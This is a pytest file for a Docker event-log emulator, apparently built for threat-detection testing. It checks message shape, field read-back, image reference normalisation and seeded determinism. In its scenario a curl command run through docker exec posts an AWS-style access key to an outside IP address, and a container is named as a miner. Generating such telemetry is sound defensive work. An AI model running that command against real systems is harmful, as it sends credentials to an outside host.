"""docker events writer: daemon message shape, read-back through the Docker reader, determinism."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from imagehunt.emulate.formats import docker
from support.emulate_common import T0, at, read_back
from support.emulate_steps_infra import (
    APP,
    EXEC_CURL,
    MINER,
    docker_scenario,
    k8s_scenario,
)

CONTAINER_KEYS = ["status", "id", "from", "Type", "Action", "Actor", "scope", "time", "timeNano"]


def _messages(seed: int = 7) -> list[dict[str, Any]]:
    return [json.loads(line) for line in docker.write(docker_scenario(seed)).splitlines()]


def test_messages_follow_the_daemon_sequence() -> None:
    messages = _messages()
    command = "curl -s -d key=AKIAIOSFODNN7EXAMPLE&x=1 http://45.76.135.12:8080/c"
    assert [(m["Type"], m["Action"]) for m in messages] == [
        ("image", "pull"),
        ("container", "create"),
        ("network", "connect"),
        ("container", "start"),
        ("container", "create"),
        ("network", "connect"),
        ("container", "start"),
        ("container", f"exec_create: {command}"),
        ("container", f"exec_start: {command}"),
    ]
    times = [m["timeNano"] for m in messages]
    assert times == sorted(times)


def test_container_messages_have_the_api_shape() -> None:
    messages = _messages()
    start = messages[3]
    assert list(start) == CONTAINER_KEYS
    assert (start["status"], start["id"], start["from"]) == ("start", MINER.id, MINER.image)
    assert start["Actor"] == {
        "ID": MINER.id,
        "Attributes": {"image": MINER.image, "name": MINER.name},
    }
    assert start["scope"] == "local"
    assert start["timeNano"] == int(at(12).timestamp()) * 10**9 + 412_000_000
    assert start["time"] == start["timeNano"] // 10**9
    connect = messages[2]
    assert list(connect) == ["Type", "Action", "Actor", "scope", "time", "timeNano"]
    assert connect["Actor"]["Attributes"] == {
        "container": MINER.id,
        "name": "bridge",
        "type": "bridge",
    }


def test_pull_names_the_familiar_reference() -> None:
    pull = _messages()[0]
    assert (pull["status"], pull["id"]) == ("pull", "alpineos/dockerapi:latest")
    assert "from" not in pull
    assert pull["Actor"] == {
        "ID": "alpineos/dockerapi:latest",
        "Attributes": {"name": "alpineos/dockerapi"},
    }


def test_exec_messages_share_one_exec_id_and_keep_attributes_sorted() -> None:
    created, started = _messages()[-2:]
    created_attrs = created["Actor"]["Attributes"]
    started_attrs = started["Actor"]["Attributes"]
    assert list(created_attrs) == ["execID", "image", "name"]
    assert created_attrs == started_attrs
    assert len(created_attrs["execID"]) == 64
    assert int(created_attrs["execID"], 16) >= 0
    assert created["status"] == created["Action"]
    assert created["id"] == APP.id


def test_lines_are_compact_json_without_html_escaping() -> None:
    text = docker.write(docker_scenario())
    assert text.endswith("}\n")
    assert "key=AKIAIOSFODNN7EXAMPLE&x=1" in text
    assert '", "' not in text


@pytest.mark.parametrize(
    ("reference", "familiar", "name"),
    [
        ("nginx", "nginx:latest", "nginx"),
        ("docker.io/library/nginx:1.27", "nginx:1.27", "nginx"),
        ("library/ubuntu:24.04", "ubuntu:24.04", "ubuntu"),
        ("docker.io/bitnami/redis:7.2", "bitnami/redis:7.2", "bitnami/redis"),
        ("localhost:5000/app", "localhost:5000/app:latest", "localhost:5000/app"),
        ("registry.k8s.io/pause:3.9", "registry.k8s.io/pause:3.9", "registry.k8s.io/pause"),
        ("alpine@sha256:" + "0" * 64, "alpine@sha256:" + "0" * 64, "alpine"),
    ],
)
def test_familiar_reference(reference: str, familiar: str, name: str) -> None:
    assert docker.familiar(reference) == familiar
    assert docker.familiar_name(reference) == name


def test_exec_command_joins_like_dockerd() -> None:
    assert docker.exec_command(("sh",)) == "sh "
    assert docker.exec_command(("ls", "-la", "/tmp")) == "ls -la /tmp"


def test_read_back_gives_exact_fields(tmp_path: Path) -> None:
    rows, problems = read_back(tmp_path / "events.json", docker.write(docker_scenario()), "docker")
    assert problems.count == 0
    assert len(rows) == 9
    pull, create, _, start = rows[:4]
    assert pull["event.action"] == "pull"
    assert pull["event.category"] == ["package"]
    assert pull["container.image.name"] == "alpineos/dockerapi"
    assert pull["container.image.tag"] == ["latest"]
    assert pull["@timestamp"] == at(10)
    assert create["event.type"] == ["info"]
    assert start["event.category"] == ["host"]
    assert start["event.type"] == ["start"]
    assert (start["container.id"], start["container.name"]) == (MINER.id, MINER.name)
    assert start["container.image.name"] == "alpineos/dockerapi"
    assert start["container.runtime"] == "docker"
    processes = [row for row in rows if row["event.category"] == ["process"]]
    assert len(processes) == 1  # the entry command and its child are not exec events
    exec_start = processes[0]
    assert exec_start["event.action"] == "exec_start"
    assert exec_start["process.name"] == "curl"
    assert exec_start["process.args"] == list(EXEC_CURL.args)
    assert exec_start["process.command_line"] == " ".join(EXEC_CURL.args)
    assert exec_start["container.id"] == APP.id
    assert exec_start["container.image.name"] == "python"
    assert at(40) - timedelta(milliseconds=3) <= exec_start["@timestamp"] < at(40)
    exec_create = rows[-2]
    assert exec_create["event.action"] == "exec_create"
    assert exec_create["event.category"] == ["host"]


def test_pulls_for_other_runtimes_and_non_docker_steps_are_left_out() -> None:
    messages = [json.loads(line) for line in docker.write(k8s_scenario()).splitlines()]
    # only the plain Docker container of the Kubernetes scenario: no pull, no kubectl exec
    assert [m["Action"] for m in messages] == ["create", "connect", "start"]
    assert messages[0]["id"] == APP.id


def test_same_seed_same_text_other_seed_other_ids() -> None:
    first = docker.write(docker_scenario(7))
    assert first == docker.write(docker_scenario(7))
    other = _messages(8)
    same = _messages(7)
    assert [m["Action"] for m in other] == [m["Action"] for m in same]
    exec_id = same[-1]["Actor"]["Attributes"]["execID"]
    assert other[-1]["Actor"]["Attributes"]["execID"] != exec_id
    assert datetime.fromtimestamp(same[1]["time"], UTC) < T0 + timedelta(seconds=12)
